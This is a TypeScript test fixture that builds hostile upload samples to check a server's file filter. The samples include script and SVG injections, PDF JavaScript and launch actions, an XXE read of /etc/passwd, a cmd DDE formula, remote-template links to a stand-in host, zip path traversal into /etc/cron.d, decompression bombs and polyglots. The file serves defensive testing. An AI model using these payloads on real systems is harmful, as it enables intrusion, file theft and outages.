import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

import { anOfficeFile, anOpenDocument, aPdf, aPicture, aZip } from './file-factory.ts';

/** A word in every hostile file, which must not come out of the server as anything that runs. */
export const hostileMark = 'HOSTILE-MARK';

const script = `<script>alert("${hostileMark}")</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${hostileMark}')"></svg>`;

/** An object of a PDF with packed content. */
function packed(dictionary: string, content: string | Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`9 0 obj\n<< ${dictionary} >>\nstream\n`),
    Buffer.from(content),
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

/** What is hidden in a PDF's stream of objects. */
const hidden = `4 0 << /S /JavaScript /JS (app.alert\\("${hostileMark}"\\)) >>`;
const objects = '/Type /ObjStm /N 1 /First 4';

function pdfs(): Record<string, Buffer> {
  const action = (entry: string) => aPdf(`4 0 obj\n<< ${entry} >>\nendobj\n`);
  const bomb = deflateSync(Buffer.alloc(70 * 1024 * 1024));
  const smaller = deflateSync(Buffer.alloc(45 * 1024 * 1024));
  return {
    'PDF with a script': action(`/OpenAction << /S /JavaScript /JS (${hostileMark}) >>`),
    'PDF with a script, spelled with digits': action(`/OpenAction << /S /J#61va#53cript /JS (${hostileMark}) >>`),
    'PDF that starts a program': action(`/OpenAction << /S /Launch /F (${hostileMark}.exe) >>`),
    'PDF with a file in it': action('/Names << /EmbeddedFiles 5 0 R >>'),
    'PDF with a film': action('/Subtype /RichMedia'),
    'PDF with a form of its own': action('/AcroForm << /XFA [5 0 R] >>'),
    'PDF that sends a form': action(`/A << /S /SubmitForm /F (https://${hostileMark}.example) >>`),
    'PDF with a password': action('/Encrypt 5 0 R'),
    'PDF with a packed script': aPdf(packed(`${objects} /Filter /FlateDecode`, deflateSync(hidden))),
    'PDF with a packed script of another name': aPdf(packed('/Filter /Fl', deflateSync(hidden))),
    'PDF with a script packed twice': aPdf(
      packed(`${objects} /Filter [/ASCIIHexDecode /FlateDecode]`, deflateSync(hidden).toString('hex')),
    ),
    'PDF with a script as digits': aPdf(
      packed(`${objects} /Filter /ASCIIHexDecode`, Buffer.from(hidden).toString('hex')),
    ),
    'PDF with a script as digits, spelled with digits': aPdf(
      packed(`/Type /Obj#53tm /Filter /ASCII#48exDecode`, Buffer.from(hidden).toString('hex')),
    ),
    'PDF with objects behind a predictor': aPdf(
      packed(`${objects} /Filter /FlateDecode /DecodeParms << /Predictor 12 >>`, deflateSync(hidden)),
    ),
    'PDF with objects whose kind stands in a far place': aPdf(
      packed(`${objects} /Filter /ASCIIHexDecode /Pad (${'x'.repeat(20_000)})`, Buffer.from(hidden).toString('hex')),
    ),
    'PDF with objects whose kind stands before a decoy': aPdf(
      packed(`${objects} /Filter /ASCIIHexDecode /Pad (obj)`, Buffer.from(hidden).toString('hex')),
    ),
    'PDF with a script behind a false end': aPdf(
      packed(`${objects} /Filter /FlateDecode`, deflateSync(`endstream ${'%'.repeat(2000)}${hidden}`, { level: 0 })),
    ),
    'PDF that is a bomb': aPdf(packed('/Filter /FlateDecode', bomb)),
    'PDF of many bombs': aPdf(...Array.from({ length: 5 }, () => packed('/Filter /FlateDecode', smaller))),
    'PDF of endless streams': aPdf('stream\n'.repeat(30_000)),
    'PDF that breaks off': aPdf().subarray(0, 60),
    'PDF with a page behind it': Buffer.concat([aPdf(), Buffer.from(script)]),
    'PDF with a page before it': Buffer.concat([Buffer.from(script), aPdf()]),
    'PDF behind a program': Buffer.concat([Buffer.from('MZ\x90\0'), aPdf()]),
  };
}

/** Those that keep the server busy for a second. */
export const heavyFiles: ReadonlySet<string> = new Set([
  'PDF that is a bomb',
  'PDF of many bombs',
  'PDF of endless streams',
  'PNG of too many pixels',
  'an archive of a gigabyte',
  'an archive of too many parts',
]);

/** A ZIP archive, written by hand so that it can lie. */
function zipOf(
  files: {
    name: string;
    content: Buffer;
    data?: Buffer;
    local?: string;
    claims?: number;
    flags?: number;
    at?: number;
  }[],
): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, content, local = name, claims = content.length, flags = 0, at, ...given } of files) {
    const data = given.data ?? deflateRawSync(content);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50);
    head.writeUInt16LE(flags, 6);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(data.length, 18);
    head.writeUInt32LE(claims, 22);
    head.writeUInt16LE(Buffer.byteLength(local), 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50);
    entry.writeUInt16LE(flags, 8);
    entry.writeUInt16LE(8, 10);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(claims, 24);
    entry.writeUInt16LE(Buffer.byteLength(name), 28);
    entry.writeUInt32LE(at ?? offset, 42);
    directory.push(entry, Buffer.from(name));
    if (at !== undefined) continue;
    locals.push(head, Buffer.from(local), data);
    offset += head.length + Buffer.byteLength(local) + data.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, central, end]);
}

const wordTypes = Buffer.from(
  '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const types = { name: '[Content_Types].xml', content: wordTypes };
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

async function archives(): Promise<Record<string, Buffer>> {
  const word = await anOfficeFile('docx');
  const mark = Buffer.from(hostileMark);
  const large = Buffer.alloc(64 * 1024 * 1024);
  const packedLarge = deflateRawSync(large);
  const twice = zipOf([types, { name: 'word/document.xml', content: mark }]);
  const comment = Buffer.from(word);
  comment.writeUInt16LE(script.length, comment.length - 2);
  return {
    'a plain archive': await aZip({ [`${hostileMark}.html`]: script }),
    'an archive of nothing': zipOf([]),
    'a program for Java': await aZip({ 'META-INF/MANIFEST.MF': hostileMark, 'Main.class': 'x' }),
    'a document with macros': await anOfficeFile('docx', { 'word/vbaProject.bin': hostileMark }),
    'a workbook with old macros': await anOfficeFile('xlsx', { 'xl/macrosheets/sheet1.xml': hostileMark }),
    'a document that says it has macros': await anOfficeFile('docx', {
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    'a document with a control': await anOfficeFile('docx', { 'word/activeX/activeX1.xml': hostileMark }),
    'a document with an object': await anOfficeFile('docx', { 'word/embeddings/oleObject1.bin': hostileMark }),
    'a document with a workbook with macros': await anOfficeFile('docx', { 'word/embeddings/book.xlsm': hostileMark }),
    'a document with a program': await anOfficeFile('pptx', { 'ppt/media/run.exe': hostileMark }),
    'a document with a template elsewhere': await anOfficeFile('docx', {
      'word/_rels/settings.xml.rels': relation('attachedTemplate', `https://${hostileMark}.example/a.dotm`),
    }),
    'a document with a frame elsewhere': await anOfficeFile('docx', {
      'word/_rels/webSettings.xml.rels': relation('frame', String.raw`\\${hostileMark}\share`),
    }),
    'a document with an object elsewhere': await anOfficeFile('docx', {
      'word/_rels/document.xml.rels': relation('oleObject', `mhtml:https://${hostileMark}.example`),
    }),
    'a document with entities': await anOfficeFile('docx', {
      'word/_rels/document.xml.rels': `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Relationships>&b;${hostileMark}</Relationships>`,
    }),
    'a workbook that asks a program': await anOfficeFile('xlsx', {
      'xl/externalLinks/externalLink1.xml': `<externalLink><ddeLink ddeService="cmd" ddeTopic="${hostileMark}"/></externalLink>`,
    }),
    'two documents in one': await anOfficeFile('docx', {
      '[Content_Types].xml': '<Types>wordprocessingml.document.main+xml spreadsheetml.sheet.main+xml</Types>',
    }),
    'a document with nothing that says what it is': await aZip({ 'word/document.xml': hostileMark }),
    'a text with macros': await anOpenDocument('odt', { 'Basic/Standard/Module1.xml': hostileMark }),
    'a text with scripts': await anOpenDocument('odt', { 'Scripts/python/run.py': hostileMark }),
    'a text with a password': await anOpenDocument('odt', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    'a text without a manifest': await aZip({
      mimetype: 'application/vnd.oasis.opendocument.text',
      'a.xml': hostileMark,
    }),
    'a text whose kind comes second': await aZip({
      'content.xml': hostileMark,
      mimetype: 'application/vnd.oasis.opendocument.text',
    }),
    'an archive with a path out of it': zipOf([types, { name: '../../etc/cron.d/x', content: mark }]),
    'an archive with a path from the root': zipOf([types, { name: '/etc/cron.d/x', content: mark }]),
    'an archive with a path of Windows': zipOf([types, { name: String.raw`..\..\x`, content: mark }]),
    'an archive with a drive': zipOf([types, { name: 'C:/x', content: mark }]),
    'an archive with one name twice': zipOf([types, types]),
    'an archive with one name in two cases': zipOf([types, { ...types, name: '[content_types].xml' }]),
    'an archive whose parts have two names': zipOf([{ ...types, local: '[Content_Types].xmm' }]),
    'an archive with a password': zipOf([types, { name: 'word/document.xml', content: mark, flags: 1 }]),
    'an archive whose parts share bytes': zipOf([
      types,
      { name: 'word/document.xml', content: wordTypes, at: 0, local: types.name },
    ]),
    'an archive that says it is huge': zipOf([types, { name: 'a', content: mark, claims: 0x7fffffff }]),
    'an archive that is larger than it says': zipOf([
      types,
      { name: 'a', content: Buffer.alloc(5_000_000), claims: 10 },
    ]),
    'an archive of a gigabyte': zipOf([
      types,
      ...Array.from({ length: 16 }, (_, index) => ({ name: `a${index}`, content: large, data: packedLarge })),
    ]),
    'an archive of too many parts': zipOf([
      types,
      ...Array.from({ length: 10_001 }, (_, index) => ({ name: `a${index}`, content: Buffer.alloc(0) })),
    ]),
    'a document behind a program': Buffer.concat([Buffer.from(`MZ${hostileMark}`), word]),
    'a document behind a page': Buffer.concat([Buffer.from(script), word]),
    'a document before a page': Buffer.concat([word, Buffer.from(script)]),
    'a document with a page as its comment': Buffer.concat([comment, Buffer.from(script)]),
    'a document with a page between its parts': Buffer.concat([
      twice.subarray(0, -22),
      Buffer.from(script),
      twice.subarray(-22),
    ]),
    'a document behind another archive': Buffer.concat([await aZip({ a: script }), word]),
    'a document that breaks off': word.subarray(0, word.length - 30),
    'a document in a PDF': Buffer.concat([aPdf(), word]),
    'a PDF in a document': await anOfficeFile('docx').then((bytes) => Buffer.concat([bytes, aPdf()])),
  };
}

async function pictures(): Promise<Record<string, Buffer>> {
  const [jpeg, png, webp, gif, avif] = await Promise.all(
    (['jpeg', 'png', 'webp', 'gif', 'avif'] as const).map((format) => aPicture(format)),
  );
  if (!jpeg || !png || !webp || !gif || !avif) throw new Error('unreachable');
  const flat = sharp({ create: { width: 10_000, height: 5_001, channels: 3, background: '#fff' } });
  const behind = (picture: Buffer) => Buffer.concat([picture, Buffer.from(script)]);
  return {
    'JPEG before a page': behind(jpeg),
    'PNG before a page': behind(png),
    'WebP before a page': behind(webp),
    'GIF before a page': behind(gif),
    'JPEG before an archive': Buffer.concat([jpeg, await aZip({ 'a.html': script })]),
    'JPEG before a PDF': Buffer.concat([jpeg, aPdf(hostileMark)]),
    'JPEG with a page in its comment': Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0, script.length + 2]),
      Buffer.from(script),
      jpeg.subarray(2),
    ]),
    'PNG with a page in its author': await sharp(png)
      .withExif({ IFD0: { Artist: script } })
      .png()
      .toBuffer(),
    'GIF that is a script': Buffer.from(`GIF89a/*\0\0*/=alert("${hostileMark}")`),
    'half a JPEG': jpeg.subarray(0, 200),
    'half a PNG': png.subarray(0, 60),
    'half a WebP': webp.subarray(0, 30),
    'half an AVIF': avif.subarray(0, 100),
    'the beginning of a JPEG before a page': Buffer.from(`\xff\xd8\xff\xe0${script}`, 'latin1'),
    'the beginning of a PNG before a page': Buffer.from(`\x89PNG\r\n\x1a\n${script}`, 'latin1'),
    'the beginning of a WebP before a page': Buffer.from(`RIFF\0\0\0\0WEBP${script}`, 'latin1'),
    'PNG of too many pixels': await flat.png({ compressionLevel: 9 }).toBuffer(),
    'PNG that says it has endless pixels': Buffer.concat([
      png.subarray(0, 16),
      Buffer.from([0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff]),
      png.subarray(24),
    ]),
    TIFF: await sharp(png).tiff().toBuffer(),
    BMP: Buffer.from(`BM${hostileMark}\0\0\0\0`),
    icon: Buffer.from(`\0\0\x01\0\x01\0${hostileMark}`, 'latin1'),
  };
}

function texts(): Record<string, Buffer> {
  const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
  return {
    SVG: Buffer.from(svg),
    'SVG with a prologue': Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE svg>\n${svg}`),
    'SVG behind blanks': Buffer.from(`\uFEFF \n\t${svg}`),
    'SVG behind a comment': Buffer.from(`<!-- a -->${svg}`),
    'SVG with entities': Buffer.from(`<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(1000)}">]>${svg}`),
    'SVG, packed': gzipSync(svg),
    'SVG of two bytes a letter': utf16(svg),
    'a page': Buffer.from(`<!doctype html>${script}`),
    'a page in capitals': Buffer.from(`<HTML><BODY ONLOAD=alert("${hostileMark}")>`),
    'a page of two bytes a letter': utf16(`<html>${script}`),
    'a page in old letters': Buffer.concat([Buffer.from([0xe4]), Buffer.from(script)]),
    'a page of seven bits': Buffer.from(`+ADw-script+AD4-${hostileMark}`),
    'a page behind a word': Buffer.from(`x ${script}`),
    'a script': Buffer.from(`alert("${hostileMark}")`),
    'a script of a shell': Buffer.from(`#!/bin/sh\necho ${hostileMark}\n`),
    'a formula': Buffer.from(`=cmd|' /C calc'!A0,${hostileMark}\n`),
    'a text with a NUL': Buffer.from(`${hostileMark}\0`),
    'a text with signals': Buffer.from(`\x1b]0;${hostileMark}\x07`),
    'a text in old letters': Buffer.concat([Buffer.from(hostileMark), Buffer.from([0xe4, 0xfc])]),
    'rich text': Buffer.from(`{\\rtf1{\\object\\objdata ${hostileMark}}}`),
  };
}

function programs(): Record<string, Buffer> {
  const heads = {
    'a program for Windows': 'MZ\x90\0',
    'a program for Linux': '\x7fELF\x02',
    'a program for macOS': '\xcf\xfa\xed\xfe',
    'a class of Java': '\xca\xfe\xba\xbe',
    WebAssembly: '\0asm\x01',
    'an old document of Office': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    'a 7z archive': '7z\xbc\xaf\x27\x1c',
    'a RAR archive': 'Rar!\x1a\x07\0',
    'a film': '\0\0\0\x18ftypmp42',
    'a photo of a phone': '\0\0\0\x18ftypheic',
    'a disk image': 'CD001\0',
    'a shortcut': 'L\0\0\0\x01\x14\x02\0',
    'a database': 'SQLite format 3\0',
    'a tape archive': 'ustar\0\0',
  };
  return {
    ...Object.fromEntries(
      Object.entries(heads).map(([what, head]) => [what, Buffer.from(`${head}${hostileMark}\0`, 'latin1')]),
    ),
    nothing: Buffer.alloc(0),
    zeros: Buffer.alloc(1000),
  };
}

/** Files that are two things at once: what may be uploaded, before or behind what must not. */
async function mixtures(): Promise<Record<string, Buffer>> {
  const formats = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const;
  const allowed = [
    ...(await Promise.all(formats.map(async (format) => [format.toUpperCase(), await aPicture(format)] as const))),
    ['PDF', aPdf()],
    ['document', await anOfficeFile('docx')],
  ] as const;
  const forbidden = {
    drawing: Buffer.from(svg),
    script: Buffer.from(`\nalert("${hostileMark}")\n`),
    'script of a shell': Buffer.from(`#!/bin/sh\necho ${hostileMark}\nexit\n`),
    program: Buffer.from(`\x7fELF\x02${hostileMark}\0`, 'latin1'),
    'rich text': Buffer.from(`{\\rtf1{\\object\\objdata ${hostileMark}}}`),
    'plain archive': await aZip({ [`${hostileMark}.html`]: script }),
  };
  return Object.fromEntries(
    allowed.flatMap(([one, good]) =>
      Object.entries(forbidden).flatMap(([other, bad]) => [
        [`a ${one} before a ${other}`, Buffer.concat([good, bad])],
        [`a ${one} behind a ${other}`, Buffer.concat([bad, good])],
      ]),
    ),
  );
}

/** Files that must not do anything, by what they are. */
export async function hostileFiles(): Promise<[string, Buffer][]> {
  return Object.entries({
    ...texts(),
    ...programs(),
    ...pdfs(),
    ...(await pictures()),
    ...(await archives()),
    ...(await mixtures()),
  });
}
